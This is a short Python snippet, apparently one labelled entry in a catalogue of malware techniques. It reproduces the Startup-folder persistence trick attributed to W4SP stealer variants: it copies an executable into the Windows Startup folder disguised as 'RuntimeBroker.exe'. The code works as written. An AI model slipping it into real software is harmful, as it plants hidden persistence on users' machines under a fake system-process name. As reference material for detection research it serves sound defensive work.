# technique: copy into the Windows Startup folder
# class: persistence
# source: Phylum, W4SP stealer variants (Startup folder persistence)
# declares: fs-write
import os
import shutil


def stay(exe):
    startup = os.path.join(os.environ["APPDATA"], r"Microsoft\Windows\Start Menu\Programs\Startup")
    shutil.copy(exe, os.path.join(startup, "RuntimeBroker.exe"))
